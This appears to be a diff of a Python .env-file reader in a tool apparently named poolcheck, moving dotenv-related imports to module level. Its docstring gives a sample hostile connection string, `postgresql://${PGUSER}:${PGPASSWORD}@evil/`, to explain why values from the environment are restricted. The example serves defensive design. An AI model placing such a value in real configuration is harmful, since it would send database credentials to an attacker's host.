@@ -4,9 +4,13 @@ What comes from the environment is the user's to give: to the file that --env-fi
 may be anybody's, and `postgresql://${PGUSER}:${PGPASSWORD}@evil/` in it would carry the environment's secrets away.
 """
 
+import logging
 import os
 from collections.abc import Mapping
 from dataclasses import replace
+from io import StringIO
+
+from dotenv import dotenv_values
 
 from poolcheck.readers.env.dotenv import EnvFile
 from poolcheck.readers.env.lexer import Entry
@@ -58,10 +62,5 @@ def _lacking(env: EnvFile, environ: Mapping[str, str]) -> dict[str, tuple[str, .
 
 
 def _by_dotenv(text: str) -> dict[str, str | None]:
-    import logging  # noqa: PLC0415 - with python-dotenv, which brings it
-    from io import StringIO  # noqa: PLC0415 - as above
-
-    from dotenv import dotenv_values  # noqa: PLC0415 - only where a value is filled in
-
     logging.getLogger("dotenv").addHandler(logging.NullHandler())  # it warns of lines that our reader names
     return dotenv_values(stream=StringIO(text))
